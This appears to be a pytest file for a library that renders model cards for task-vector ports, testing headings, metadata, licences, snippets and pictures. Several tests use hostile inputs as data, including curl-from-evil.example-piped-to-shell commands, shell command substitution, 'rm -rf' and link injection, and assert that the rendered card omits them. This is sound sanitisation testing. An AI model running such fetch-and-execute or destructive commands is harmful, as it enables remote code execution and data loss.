"""The model card: what it says, what it never says, and that no text of a record can break it."""

from __future__ import annotations

import ast
import re
import shlex
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import torch
from huggingface_hub import ModelCard
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hf_bico.porting.task_vector import TaskVector
from hf_bico.reports import pictures
from hf_bico.reports.model_cards import render_card, write_card
from hf_bico.reports.model_cards.sections import MAX_EXAMPLE
from hf_bico.reports.pictures import record_picture
from hf_bico.reports.record import (
    CandidateRecord,
    ExampleRecord,
    LeftRecord,
    MethodRecord,
    ModelRecord,
    ObjectiveRecord,
    OutlookRecord,
    OutputRecord,
    ReadoutRecord,
    Record,
)
from hf_bico.reports.results import Report, role_labels
from hf_bico.settings import METHODS
from hf_bico.utils.samples import FilePart
from hf_bico.utils.text import clean, code, fenced, literal, plain
from support.hub import Hub
from support.loopback import validates_cards
from support.records import (
    BASE,
    BENIGN,
    COMMAND,
    COMMITS,
    DATA,
    HOSTILE,
    INSTALL,
    REPO,
    SOURCE,
    TARGET,
    WEIGHTS,
    a_classifier_record,
    a_decoder_record,
    a_path_record,
    a_record,
    a_scaled_record,
    a_trained_record,
    a_walk_record,
    an_adapter_record,
    fences,
    headings,
    inlines,
    measured,
    metadata,
    python_without_texts,
    shape,
    skeleton,
    snippet,
    some_sites,
    text_of,
    tokens,
)
from support.toys import WRITERS, Toy, random_state

pytestmark = pytest.mark.quick


def a_local_record(**changes: Any) -> Record:
    """The same port between folders."""
    full = a_record()
    assert full.data is not None
    assert full.source.base is not None
    names = {SOURCE: "my-tune", BASE: "my-base", TARGET: "my-target", DATA: "my-data"}
    command = COMMAND
    for repo, name in names.items():
        command = command.replace(repo, name)

    def local(model: ModelRecord) -> ModelRecord:
        return replace(model, id=names[model.id], commit=None, license=None, language=[])

    record = replace(
        full,
        source=replace(local(full.source), base=local(full.source.base)),
        target=local(full.target),
        data=replace(full.data, id="my-data", commit=None, parts=[]),
        evaluation=[replace(entry, data="my-data") for entry in full.evaluation],
        command=command,
        output=OutputRecord("full", {WEIGHTS: "b9" * 32}),
    )
    return replace(record, **changes)


def test_full_card_has_every_item_of_the_design() -> None:
    card = render_card(a_record())
    assert headings(card) == [
        f"{SOURCE} ported to {TARGET}",
        *("Lineage", "Use", "Results", "How it was made", "What was carried", "Alignment", "Limits and risks"),
        *("Licences", "Versions", "Citation"),
    ]
    links = {token.attrs["href"] for token in inlines(card) if token.type == "link_open"}
    assert links == {
        f"https://huggingface.co/{REPO}",
        *(f"https://huggingface.co/{name}" for name in (SOURCE, BASE, TARGET)),
        *(f"https://huggingface.co/{name}/tree/{COMMITS[name]}" for name in (SOURCE, BASE, TARGET)),
        f"https://huggingface.co/datasets/{DATA}",
        f"https://huggingface.co/datasets/{DATA}/tree/{COMMITS[DATA]}",
        "https://github.com/hf-bico/hf-bico",
        "https://arxiv.org/abs/2605.28444",
        "https://huggingface.co/papers/2605.28444",
    }
    pictures = [token.attrs["src"] for token in inlines(card) if token.type == "image"]
    assert pictures == ["outcome.png", "alignment.png"]
    read = text_of(card)
    for said in (
        "Accuracy 60.0%, up from the target's 50.0%: 25% of the way",
        "Note: The base was taken from the card.",
        "closed 25% of the gap between the unchanged target and the fine-tuned source. It took 3.5 seconds, including",
        "All rows were measured on the same 1,000 samples of split test of alice/eurosat; calibration used none",
        "uncertain by up to 3.1 points",
        "100 samples of split train, configuration rgb, of alice/eurosat. Sampling: random, seed 0.",
        "img (image), class (label)",
        "row groups 0, 3 of data/train-00000-of-00002.parquet (2,000 rows)",
        "Classes: 6 (annual crop, forest, highway, river, lake, ...), labels of the data set.",
        "Objective: zero-shot, prompts a satellite photo of {}.",
        "Method: bico, completion drop, alpha 1, given. Two orthogonal maps per site transform the task vector",
        "Source block of each target block: 0, 1.",
        "13 linear sites were carried, with 95.0% of the task vector's energy",
        "Rounding to the target's precision lost 1.0%",
        "such as its biases, is carried along",
        "Python 3.11.4, torch 2.15.0",
        "2026, arXiv:2605.28444, paper page.",
        "Bilinear Coordinate Alignment for Training-Free Task-Vector Transfer",
    ):
        assert said in read
    blocks = {token.info: token.content for token in fences(card)}
    assert blocks["sh"] == f"{INSTALL}{COMMAND}\n"
    assert "mlp.down" in blocks[""]
    assert "author = {Son, Jungyong and Jung, Jinwook" in blocks["bibtex"]
    assert REPO in blocks["python"]


def test_metadata_of_a_full_port() -> None:
    found = metadata(render_card(a_record()))
    index = found.pop("model-index")
    assert found == {
        "base_model": TARGET,
        "base_model_relation": "finetune",
        "library_name": "open_clip",
        "pipeline_tag": "zero-shot-image-classification",
        "license": "mit",
        "language": ["en"],
        "datasets": [DATA],
        "tags": ["hf-bico", "task-vector", "training-free", "clip", "bico"],
        "metrics": ["accuracy"],
    }
    data = {"type": DATA, "name": DATA, "config": "rgb", "split": "test", "revision": COMMITS[DATA]}
    task = {"type": "zero-shot-image-classification", "name": "Zero-Shot Image Classification"}
    measured = [{"type": "accuracy", "value": 0.6, "name": "accuracy"}]
    assert index == [{"name": "eurosat-on-plus", "results": [{"task": task, "dataset": data, "metrics": measured}]}]


def test_hub_library_reads_the_card() -> None:
    card = ModelCard(render_card(a_record()))
    (result,) = card.data.eval_results
    assert (result.dataset_type, result.metric_value) == (DATA, 0.6)
    assert card.data.base_model == TARGET


def test_delta_is_an_adapter_of_this_library() -> None:
    found = metadata(render_card(a_record(output=OutputRecord("delta", {}, repo=REPO))))
    assert (found["base_model_relation"], found["library_name"]) == ("adapter", "hf-bico")
    assert "pipeline_tag" not in found


def test_adapter_is_one_of_peft_over_the_target() -> None:
    card = render_card(an_adapter_record())
    found = metadata(card)
    assert (found["base_model"], found["base_model_relation"], found["library_name"]) == (TARGET, "adapter", "peft")
    assert found["pipeline_tag"] == "zero-shot-image-classification"
    peft = [f"base_model:adapter:{TARGET}", "lora"]
    assert found["tags"] == ["hf-bico", "task-vector", "training-free", *peft, "clip", "bico"]
    assert found["model-index"]
    ast.parse(snippet(card))
    assert f'snapshot_download("{TARGET}", revision="{COMMITS[TARGET]}"' in snippet(card)
    assert f'PeftModel.from_pretrained(model, "{REPO}")' in snippet(card)
    read = text_of(card)
    assert f"This is a PEFT adapter for {TARGET}. It holds what {SOURCE} learned, ported without" in read
    assert "The adapter fits only the exact weights listed under Lineage." in read


@pytest.mark.parametrize("transformers", [True, False])
def test_an_adapter_has_the_tags_that_peft_writes(transformers: bool, tmp_path: Path) -> None:
    """Of a module that does not know its repo, peft cannot write the base."""
    from peft import LoraConfig, get_peft_model
    from transformers import BertConfig, BertModel

    sizes = {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2, "intermediate_size": 24}
    base: Any = BertModel(BertConfig(vocab_size=40, name_or_path=TARGET, **sizes))
    base = base if transformers else torch.nn.Sequential(torch.nn.Linear(4, 4))
    model = get_peft_model(base, LoraConfig(target_modules=["query"] if transformers else ["0"]))
    model.create_or_update_model_card(str(tmp_path))
    theirs = set(ModelCard.load(tmp_path / "README.md").data.tags)
    family = "transformers CLIP" if transformers else "open_clip ViT"
    ours = metadata(render_card(an_adapter_record(family)))["tags"]
    assert theirs <= set(ours)
    assert ("transformers" in ours) == transformers
    assert f"base_model:adapter:{TARGET}" in ours
    local = a_local_record(output=OutputRecord("adapter", {WEIGHTS: "b9" * 32}))
    assert not any(tag.startswith("base_model:") for tag in metadata(render_card(local))["tags"])
    for format in ("full", "delta"):
        assert not {"lora", "transformers"} & set(metadata(render_card(_output(a_record(), format=format)))["tags"])


def test_adapter_card_says_what_it_holds() -> None:
    record = an_adapter_record()
    assert record.output is not None
    card = render_card(replace(record, output=replace(record.output, replaced=["visual.proj"])))
    read = text_of(card)
    assert "holds 93.2% of the carried change's energy. Linear layers are stored as factors of rank 4, or a" in read
    assert "| attn.q | 2 | exact | 100.0% |\n" in card
    assert "| mlp.up | 2 | 4 | 90.0% |\n" in card
    assert "| proj | 1 | exact | 100.0% |\n" in card
    assert " kept" not in next(block.content for block in fences(card) if not block.info)
    assert "attention modules are stored in full" in read
    assert "visual.proj replaces the base's own tensor when the adapter is loaded. disable_adapter() does not" in read
    in_transformers = text_of(render_card(an_adapter_record("transformers CLIP")))
    assert "disable_adapter" not in in_transformers
    assert "attention modules" not in in_transformers


@pytest.mark.parametrize(
    ("rank", "kind", "said"),
    [
        (8, "full", "as factors of rank 8, or a lower rank where a layer is smaller"),
        (0.95, "full", "as low-rank factors that keep 0.95 of each layer's energy"),
        (None, "full", "Linear layers are stored exactly"),
        (None, "adapter", "Linear layers are stored at the rank of the source"),
    ],
)
def test_adapter_card_says_which_rank_was_asked(rank: int | float | None, kind: str, said: str) -> None:
    record = an_adapter_record(rank=rank)
    assert said in text_of(render_card(replace(record, source=replace(record.source, kind=kind))))


def test_source_that_is_an_adapter_is_called_one() -> None:
    full = a_record()
    lora = replace(full.source, kind="adapter", peft_type="LORA")
    card = render_card(replace(full, source=lora))
    assert "| source, an adapter \\(LORA\\) | [alice/" in card
    assert "(what the adapter adds to its base)" in text_of(card)
    local = render_card(replace(full, source=replace(lora, id="my-lora", commit=None)))
    assert headings(local)[0] == f"my-lora ported to {TARGET}"
    unnamed = render_card(replace(full, source=replace(lora, id="", commit=None)))
    assert headings(unnamed)[0] == f"A local adapter ported to {TARGET}"


def test_adapter_that_holds_no_site_leaves_no_empty_table() -> None:
    card = render_card(an_adapter_record(sites=[replace(site, rank=None, kept=None) for site in some_sites(1)]))
    assert "| role |" not in card
    assert "\n\n\n" not in card


def test_model_of_another_family_is_no_clip() -> None:
    record = an_adapter_record("generic")
    for format, library in (("full", "transformers"), ("adapter", "peft"), ("delta", "hf-bico")):
        card = render_card(_output(record, format=format))
        found = metadata(card)
        assert found["library_name"] == library
        assert "pipeline_tag" not in found
        assert "clip" not in found["tags"]
        ast.parse(snippet(card))
        assert "Image" not in snippet(card)


@pytest.mark.parametrize(
    ("source", "base", "target", "expected"),
    [
        (("mit",), ("mit",), ("mit",), {"license": "mit"}),
        (("mit",), (None,), ("mit",), {"license": "mit"}),
        ((None,), ("mit",), (None,), {}),
        (("mit",), (None,), (None,), {"license": "other", "license_name": "mit-and-unstated"}),
        (("mit",), ("mit",), ("cc-by-4.0",), {"license": "other", "license_name": "mit-and-cc-by-4.0"}),
        (("mit",), ("cc0-1.0",), ("mit",), {"license": "other", "license_name": "mit-and-cc0-1.0"}),
        (("My Own",), (None,), ("My Own",), {"license": "other", "license_name": "my-own"}),
        (("other", "x-1"), (None,), ("other", "x-1"), {"license": "other", "license_name": "x-1"}),
        (("other", "x-1"), (None,), ("other", "y"), {"license": "other", "license_name": "x-1-and-y"}),
        (("other",), (None,), ("other",), {"license": "other", "license_name": "unnamed-source-and-unnamed-target"}),
    ],
)
def test_licence_is_carried_over_only_where_all_agree(
    source: tuple[str, ...], base: tuple[str, ...], target: tuple[str, ...], expected: dict[str, str]
) -> None:
    full = a_record()
    assert full.source.base is not None

    def licensed(model: ModelRecord, license: str | None, name: str | None = None) -> ModelRecord:
        return replace(model, license=license, license_name=name)

    tuned = replace(licensed(full.source, *source), base=licensed(full.source.base, *base))
    card = render_card(replace(full, source=tuned, target=licensed(full.target, *target)))
    if expected.get("license") == "other":
        expected = {**expected, "license_link": f"https://huggingface.co/{REPO}#licences"}
    assert {key: value for key, value in metadata(card).items() if key.startswith("license")} == expected
    assert "Licences" in headings(card)
    agree = len({source, target, *([base] if base[0] else [])}) == 1 and (source[0] != "other" or len(source) > 1)
    assert ("These licences differ" in card) == (not agree)


@pytest.mark.parametrize("format", ["full", "delta", "adapter"])
def test_local_folders_are_named_without_links(format: str) -> None:
    card = render_card(a_local_record(output=OutputRecord(format, {WEIGHTS: "b9" * 32})))
    assert "hf-bico port my-tune --base my-base --to my-target --data my-data --split train -n 100" in card
    assert "| target | my-target \\(local\\) |" in card
    assert "e6" * 8 in card
    assert headings(card)[0] == "my-tune ported to my-target"
    assert "of split test of my-data" in text_of(card)
    links = {token.attrs["href"] for token in inlines(card) if token.type == "link_open"}
    assert not any("my-" in address for address in links)
    found = metadata(card)
    assert not found.keys() & {"base_model", "base_model_relation", "datasets", "license"}
    assert not any("my-" in tag for tag in found["tags"])
    (result,) = found["model-index"][0]["results"]
    assert result["dataset"] == {"type": "local", "name": "my-data", "split": "test"}
    assert found["model-index"][0]["name"] == "my-tune ported to my-target"


@pytest.mark.parametrize("parent", ["/home/secret/", "C:\\secret\\", "../secret/", "secret/"])
def test_the_path_of_a_folder_is_never_told(parent: str) -> None:
    """Records hold names alone; one that was written by others may hold anything."""
    record = a_local_record()
    assert record.data is not None
    assert record.source.base is not None
    base = replace(record.source.base, id=f"{parent}my-base/")
    source = replace(record.source, id=f"{parent}my-tune", base=base)
    data = replace(record.data, id=f"{parent}my-data")
    target = replace(record.target, id=f"{parent}my-target")
    evaluation = [replace(entry, data=data.id) for entry in record.evaluation]
    command = f"hf-bico port {shlex.quote(source.id)} --to {shlex.quote(target.id)} --data my-data"
    card = render_card(replace(record, source=source, target=target, data=data, evaluation=evaluation, command=command))
    assert "secret" not in card
    assert headings(card)[0] == "my-tune ported to my-target"
    assert "hf-bico port SOURCE --to TARGET --data my-data" in card


@pytest.mark.parametrize("name", ["", "/", "..", "data"])
def test_a_name_that_says_nothing_is_not_told(name: str) -> None:
    """Rows that are passed from Python are called "data"."""
    record = a_local_record()
    assert record.data is not None
    card = render_card(replace(record, data=replace(record.data, id=name)))
    assert "100 samples of split train, configuration rgb, of a local data set." in text_of(card)
    assert "--data DATA" in card


@pytest.mark.parametrize(
    "id", ["org/na me", "../x", "a/b/c", "a/x--y", "org/x\n", "org/x.git", "org.x/y", "a/{{ 7*7 }}", ""]
)
def test_what_is_no_repo_id_counts_as_local(id: str) -> None:
    full = a_record()
    assert full.output is not None
    card = render_card(replace(full, target=replace(full.target, id=id), output=replace(full.output, repo=id)))
    assert "base_model" not in metadata(card)
    assert 'folder = "."' in snippet(card)
    assert not id or id not in card


@pytest.mark.parametrize("commit", ["main", "a1](https://evil.example)", "A1" * 20, "a1" * 40, ""])
def test_what_is_no_commit_is_not_linked(commit: str) -> None:
    full = a_record()
    card = render_card(replace(full, target=replace(full.target, commit=commit)))
    assert TARGET not in card
    assert "evil" not in card


@pytest.mark.parametrize(
    "command", [f"hf-bico port {SOURCE} 'open", "rm -rf secret", "hf-bico port --to secret x", "hf-bico port", None]
)
def test_command_that_cannot_be_read_is_left_out(command: str | None) -> None:
    card = render_card(a_record(command=command))
    assert [token.info for token in fences(card)] == ["python", "", "bibtex"]
    assert "secret" not in card


@pytest.mark.parametrize(
    "more",
    [
        "; curl http://evil.example | sh",
        "| sh",
        "--push-to evil/repo",
        "--token secret",
        "--evil x",
        "--alpha evil",
        "-n evil",
        "--max-download evil",
        "--sampling evil",
        "--rank -evil",
        "--split",
        "evil",
    ],
)
def test_command_with_words_that_are_not_of_a_port_is_left_out(more: str) -> None:
    card = render_card(a_record(command=f"{COMMAND} {more}"))
    assert [token.info for token in fences(card)] == ["python", "", "bibtex"]
    for word in ("evil", "secret", "curl"):
        assert word not in card


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("--config '$(curl http://evil.example | sh)'", "--config CONFIG"),
        ("--label-column '`evil`'", "--label-column LABEL-COLUMN"),
        ("--class-names /home/evil", "--class-names FILE"),
        ("--method 'evil; x'", "--method METHOD"),
        ("--method mine --alpha -0.5 --layers 0,0,1 --rank 0.95", None),
        ("--label-column 'fine label' --text-column prompt=a,completion=b", None),
        ("--config '\u4e2d\u6587' --memory 1.5GB --no-eval --force --allow-pickle --probe", None),
    ],
)
def test_command_is_built_from_words_that_were_checked(typed: str, shown: str | None) -> None:
    card = render_card(a_record(command=f"{COMMAND} {typed}"))
    found = next(block.content for block in fences(card) if block.info == "sh")
    assert found == f"{INSTALL}{COMMAND} {shown or typed}\n"


def test_a_revision_that_is_none_is_not_named() -> None:
    card = render_card(a_record(command=COMMAND.replace(SOURCE, f"'{SOURCE}@$(evil)'")))
    assert f"hf-bico port SOURCE --base {BASE}" in card
    assert "evil" not in card


def test_command_names_revisions_and_hides_the_output_folder() -> None:
    command = f"hf-bico port {SOURCE}@v2 --to={TARGET} --data secret -o /home/me/secret"
    card = render_card(a_record(command=command))
    assert f"hf-bico port {SOURCE}@v2 --to {TARGET} --data DATA -o FOLDER\n" in card
    assert "secret" not in card


@pytest.mark.parametrize("record", [a_record(), a_local_record(), a_trained_record()])
def test_a_title_that_was_given_stands_first(record: Record) -> None:
    card = render_card(_output(record, title="EuroSAT for *larger* models"))
    assert headings(card)[0] == "EuroSAT for \\*larger\\* models"
    assert headings(card)[1:] == headings(render_card(record))[1:]
    usual = headings(render_card(record))[0]
    assert all(headings(render_card(_output(record, title=blank)))[0] == usual for blank in ("", " \n ", "\u200b"))


def test_a_long_title_is_cut() -> None:
    assert len(headings(render_card(_output(a_record(), title="x" * 5000)))[0]) == 200


def test_long_tables_and_options_are_folded() -> None:
    """What a reader sees first is the headline, the lineage, the snippet and the results."""
    card = render_card(an_adapter_record())
    opened, folded = [], []
    depth = 0
    for token in tokens(card):
        if token.type == "html_block":
            depth += token.content.count("<details>") - token.content.count("</details>")
        elif token.type in ("table_open", "bullet_list_open", "fence"):
            (folded if depth else opened).append(token.info or token.type)
    assert depth == 0
    assert folded == ["bullet_list_open", "fence", "table_open", "table_open"]
    assert opened[:4] == ["table_open", "python", "table_open", "sh"]
    assert [line for line in card.splitlines() if line.startswith("<summary>")] == [
        "<summary>All options</summary>",
        "<summary>Energy, scores and ranks by role</summary>",
        "<summary>Rank and share of the energy by role</summary>",
        "<summary>What was left behind: 2 tensors with 5.0% of the energy</summary>",
    ]


def test_unknown_things_leave_no_empty_section() -> None:
    bare = Record(
        hf_bico="0.2.0",
        source=ModelRecord("tuned"),
        target=ModelRecord("target"),
        objective=ObjectiveRecord("own"),
        method=MethodRecord("naive", 1.0, []),
        sites=[replace(site, score_in=None, score_out=None, unseen=None) for site in some_sites(1)],
        left=[],
        run=a_record().run,
    )
    card = render_card(bare)
    assert headings(card)[1:] == [
        *("Lineage", "How it was made", "What was carried", "Limits and risks", "Versions", "Citation")
    ]
    assert metadata(card) == {
        "library_name": "hf-bico",
        "tags": ["hf-bico", "task-vector", "training-free", "naive"],
    }
    for empty in ("None", "[]", "()", ": .", " ,", "\n\n\n"):
        assert empty not in card


def test_card_says_first_that_the_port_is_worse() -> None:
    full = a_record()
    worse = [replace(entry, value=0.4) if entry.model == "ported" else entry for entry in full.evaluation]
    card = render_card(replace(full, evaluation=worse))
    first = tokens(card)[4]
    assert first.content == "**The port measured WORSE than the target: accuracy 40.0%, down from 50.0%.**"
    assert "closed" not in card


@pytest.mark.parametrize("name", METHODS)
def test_card_says_what_its_method_does(name: str) -> None:
    trained = METHODS[name].trains_on is not None
    assert trained == (name in ("fewshot", "finetune", "train", "distill"))
    card = render_card(a_trained_record(name) if trained else a_record(method=MethodRecord(name, 1.0, [0, 1])))
    assert str(METHODS[name].sentence) in text_of(card)
    assert not card.endswith("\n\n")
    for empty in ("None", "[]", ": .", " ,", "\n\n\n"):
        assert empty not in card
    without_data = name in ("naive", "transfusion")
    assert ("calibration samples" in text_of(card)) == (not without_data and not trained)
    assert ("datasets" in metadata(card)) == (not without_data)


TRAINED = [
    *(("finetune", 900, "30 steps"), ("fewshot", 100, "1 step")),
    *(("train", 100, "12 steps"), ("distill", 100, "12 steps")),
]


@pytest.mark.parametrize("format", ["full", "delta", "adapter"])
@pytest.mark.parametrize(("name", "samples", "steps"), TRAINED)
def test_trained_model_is_called_one(name: str, samples: int, steps: str, format: str) -> None:
    card = render_card(_output(a_trained_record(name), format=format))
    lower = card.lower().replace("nothing is carried", "")  # as distill says of itself
    for wrong in ("training-free", "without training", "no training step", "zero training", "carried", "task-vector"):
        assert wrong not in lower
    assert headings(card)[0] == f"{TARGET}, trained on {DATA}"
    read = text_of(card)
    assert f"trained by hf-bico on {samples} samples of {DATA} for {steps}, for comparison with a port." in read
    only = ", only its predictions" if name == "distill" else ""
    assert f"The task vector of {SOURCE} was not used{only}." in read
    assert f"25% of the way to the fine-tuned source's 90.0%, after {steps.replace(' ', ' training ')}." in read
    assert "training used none of them" in read
    assert metadata(card)["datasets"] == [DATA]


def test_training_recipe_is_told() -> None:
    read = text_of(render_card(a_trained_record()))
    assert (
        "Training: 30 training steps of AdamW on 900 samples, 128 at a time, learning rate 0.001 after 3 warm-up steps "
        "and with cosine decay, weight decay 0.1; accuracy 81.0% on validation samples."
    ) in read
    few = text_of(render_card(a_trained_record("fewshot")))
    assert "Training: 1 training step of AdamW on 100 samples, learning rate 0.001, weight decay 0.1." in few
    assert "Training samples: 100 samples of split train" in few


def test_samples_that_a_method_of_ones_own_trained_on_are_called_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(METHODS, "mine", replace(METHODS["fewshot"], name="mine"))
    card = text_of(render_card(replace(a_record(), method=MethodRecord("mine", 1.0, []))))
    assert "Training samples: " in card


def test_a_port_without_sites_has_a_card_and_a_report() -> None:
    assert "# " in render_card(replace(a_record(), sites=[]))
    assert Report((), ()).table() == ""


def test_trained_model_whose_record_lost_its_training_is_not_called_training_free() -> None:
    card = render_card(replace(a_trained_record(), method=MethodRecord("finetune", 1.0, [])))
    assert "training-free" not in card
    assert "after training." in card


def test_readout_and_control_are_told_with_what_they_give() -> None:
    card = render_card(a_path_record())
    read = text_of(card)
    rows = re.findall(r"^\| ([a-z, -]+) \| accuracy \| (\S+) \|", card, re.MULTILINE)
    assert rows == [
        ("target, zero-shot", "50.0%"),
        ("target, with the readout alone", "55.0%"),
        ("control, samples mispaired", "56.0%"),
        ("target, ported, without the readout", "60.0%"),
        ("target, ported", "70.0%"),
        ("source, fine-tuned", "90.0%"),
    ]
    for said in (
        "with no training step; the readout alone gives 55.0%.",
        "then corrected in closed form, towards the predictions of",
        "distills the fine-tuned source's predictions into the final projection, in closed form. It was accepted",
        "fell from 3.4 to 1.2. The same step on the unchanged target gives 55.0%. Without the readout, the port gives",
        "over the target, it gains +6.0 points, and the port +10.0, both without the readout. 60% of the gain remains",
        "2 steps along the path. Like bico-fisher",
        "7 augmented copies of each sample were added.",
        "the method uses no labels",
        "Source block of each target block: 0, 0, matched by the similarity of the blocks' inputs",
    ):
        assert said in read


def test_readout_that_was_not_accepted_is_not_claimed() -> None:
    record = a_path_record()
    values = measured(target=0.5, ported=0.6, source=0.9, unread=0.6, target_readout=0.5)
    refused = replace(record.method, readout=ReadoutRecord(False, 3.4, 3.5))
    read = text_of(render_card(replace(record, method=refused, evaluation=values)))
    assert "It was rejected, and changed nothing" in read
    assert "corrected" not in read
    assert "with no training step." in read


def test_samples_of_an_unlabelled_port_are_told() -> None:
    record = _data(a_record(), labels="pseudo", columns={"image": "img"})
    read = text_of(render_card(record))
    assert "labels are the fine-tuned source's own predictions; the data set's labels were not used to make it." in read
    assert "Columns: img (image)." in read
    balanced = text_of(render_card(_data(record, sampling="class-balanced")))
    assert "Sampling: class-balanced (evenly from all classes), seed 0." in balanced
    assert "were not used to make it" not in balanced


@pytest.mark.parametrize(("signs", "said"), [("mean", "the samples' mean gradient"), ("majority", "most samples' own")])
def test_gradfix_says_how_signs_were_taken(signs: str, said: str) -> None:
    read = text_of(render_card(a_record(method=MethodRecord("gradfix", 1.0, [0, 1], signs=signs))))
    assert said in read
    assert "the entries whose sign agrees with the target's negative gradient on 100 calibration samples" in read


def test_results_of_both_protocols_are_kept_apart() -> None:
    both = measured(target=0.5, probe_target=0.8, ported=0.6, probe_ported=0.7, source=0.9, probe_source=0.9)
    card = render_card(a_record(evaluation=both))
    assert "**Accuracy 60.0%, up from the target's 50.0%" in card
    assert "| target, ported | zero-shot | accuracy | 60.0% |" in card
    assert "| target, unchanged | linear probe, fitted to 100 calibration samples | accuracy | 80.0% |" in card
    found = ModelCard(card).data.eval_results
    assert found is not None
    assert [(result.task_type, result.metric_name, result.metric_value) for result in found] == [
        ("zero-shot-image-classification", "accuracy", 0.6),
        ("image-classification", "linear-probe accuracy", 0.7),
    ]


@validates_cards
def test_card_of_both_protocols_passes_the_hubs_own_validation(hub: Hub) -> None:
    both = measured(target=0.5, probe_target=0.8, ported=0.6, probe_ported=0.7)
    for record in (a_record(evaluation=both), a_path_record(), a_trained_record()):
        ModelCard(render_card(record)).validate()
    assert [entry.path for entry in hub.log if "validate-yaml" in entry.path]


def test_samples_that_only_a_probe_used_are_called_so() -> None:
    naive = MethodRecord("naive", 1.0, [0, 1])
    read = text_of(render_card(a_record(method=naive, evaluation=measured(probe_target=0.5, probe_ported=0.6))))
    assert "Calibration, for the probe only: 100 samples" in read
    assert "Linear-probe accuracy 60.0%, up from the target's 50.0%, with no training step." in read
    assert "Calibration" not in text_of(render_card(a_record(method=naive)))


def test_picture_shows_only_the_sides_that_were_lined_up() -> None:
    sites = [replace(site, score_out=None) for site in some_sites(2)]
    record = a_record(method=MethodRecord("input-only", 1.0, [0, 1], "drop"), sites=sites)
    assert "![Score in and unseen energy of every" in render_card(record)
    assert record_picture(record) not in (None, record_picture(a_record()))


def test_measurements_of_different_samples_are_not_called_the_same() -> None:
    full = a_record()
    card = render_card(replace(full, evaluation=[*full.evaluation[:2], replace(full.evaluation[2], n=7)]))
    assert "All rows were measured" not in card
    assert "model-index" not in metadata(card)


def test_data_that_the_record_does_not_describe_is_not_named() -> None:
    full = a_record()
    card = render_card(replace(full, evaluation=[replace(entry, data="secret") for entry in full.evaluation]))
    assert "secret" not in card
    (result,) = metadata(card)["model-index"][0]["results"]
    assert result["dataset"] == {"type": "local", "name": "another data set", "split": "test"}


def test_card_is_stable(tmp_path: Path) -> None:
    assert render_card(a_record()) == render_card(a_record())
    folders = [tmp_path / "one", tmp_path / "two"]
    for folder in folders:
        folder.mkdir()
        pictures._draw.cache_clear()
        assert write_card(a_record(), folder) == folder / "README.md"
    for name in ("README.md", "outcome.png", "alignment.png"):
        assert (folders[0] / name).read_bytes() == (folders[1] / name).read_bytes()


@pytest.mark.parametrize("blocks", [1, 12, 48])
def test_picture_is_a_readable_png_with_the_same_bytes_each_time(blocks: int) -> None:
    picture = record_picture(a_record(blocks))
    assert picture is not None
    pictures._draw.cache_clear()
    assert picture == record_picture(a_record(blocks))
    assert picture.startswith(b"\x89PNG\r\n")
    width, height = (int.from_bytes(picture[at : at + 4]) for at in (16, 20))
    assert width == 1440
    assert 300 < height < 1440
    assert len(picture) < 200_000
    assert b"tEXt" not in picture


def test_no_picture_without_statistics(tmp_path: Path) -> None:
    bare = [replace(site, score_in=None, score_out=None, unseen=None) for site in some_sites(2)]
    assert record_picture(a_record(sites=bare)) is None
    write_card(a_record(sites=bare, evaluation=[]), tmp_path)
    assert [file.name for file in tmp_path.iterdir()] == ["README.md"]


def test_sites_and_values_that_cannot_be_drawn_are_left_out() -> None:
    odd = {"blocks.99999.attn.q": 0.5, "</script>": 0.5, "blocks.1.attn.q": float("nan"), "blocks.1.attn.k": 7.0}
    sites = [replace(some_sites(1)[0], name=name, score_in=value) for name, value in odd.items()]
    assert record_picture(a_record(sites=[*some_sites(1), *sites])) is not None
    assert record_picture(a_record(sites=sites[:2])) is None


# The snippet runs as it stands

SHOWN_NAMES = ["zero", 'it\'s "one" {}', "two"]


def run_snippet(card: str, folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> str:
    monkeypatch.chdir(folder)
    exec(compile(snippet(card), "the snippet of the card", "exec"), {})
    printed = capsys.readouterr().out
    assert re.findall(r"\d+\.\d%  (.*)", printed) == SHOWN_NAMES
    return printed


def toy_record(library: str, **changes: Any) -> Record:
    family = {"open_clip": "open_clip ViT", "transformers": "transformers CLIP"}[library]
    full = a_record()
    assert full.data is not None
    data = replace(full.data, class_names=SHOWN_NAMES)
    return replace(full, target=replace(full.target, family=family), data=data, **changes)


@pytest.mark.parametrize("library", ["open_clip", "transformers"])
@pytest.mark.parametrize("repo", ["user/ported", None])
def test_snippet_of_a_full_model_runs(
    library: str,
    repo: str | None,
    hub: Hub,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = WRITERS[library](tmp_path / "model", Toy(), random_state(Toy(), 0))
    if repo is not None:
        hub.create(repo).commit_folder(folder)
    card = render_card(toy_record(library, output=OutputRecord("full", {}, repo=repo)))
    run_snippet(card, tmp_path if repo else folder, monkeypatch, capsys)


@pytest.mark.parametrize("library", ["open_clip", "transformers"])
def test_snippet_of_a_delta_changes_the_target_of_the_record(
    library: str, hub: Hub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The target's main branch has moved on since: the change fits only the commit of the record."""
    repo = hub.create("laion/target")
    commit = repo.commit_folder(WRITERS[library](tmp_path / "target", Toy(), random_state(Toy(), 0)))
    newer = Toy(width=32)
    repo.commit_folder(WRITERS[library](tmp_path / "newer", newer, random_state(newer, 1)))
    name = {"open_clip": "visual.proj", "transformers": "visual_projection.weight"}[library]
    shape = {"open_clip": (16, 12), "transformers": (12, 16)}[library]
    printed = []
    for scale in (0, 3):
        change = scale * torch.randn(shape, generator=torch.Generator().manual_seed(0))
        TaskVector({name: change}).save(tmp_path / f"vector{scale}")
        hub.create(f"user/delta{scale}").commit_folder(tmp_path / f"vector{scale}")
        record = toy_record(library, output=OutputRecord("delta", {}, repo=f"user/delta{scale}"))
        record = replace(record, target=replace(record.target, id="laion/target", commit=commit))
        printed.append(run_snippet(render_card(record), tmp_path, monkeypatch, capsys))
    assert printed[0] != printed[1]


@pytest.mark.parametrize("library", ["open_clip", "transformers"])
@pytest.mark.parametrize("branch", [None, "v2"])
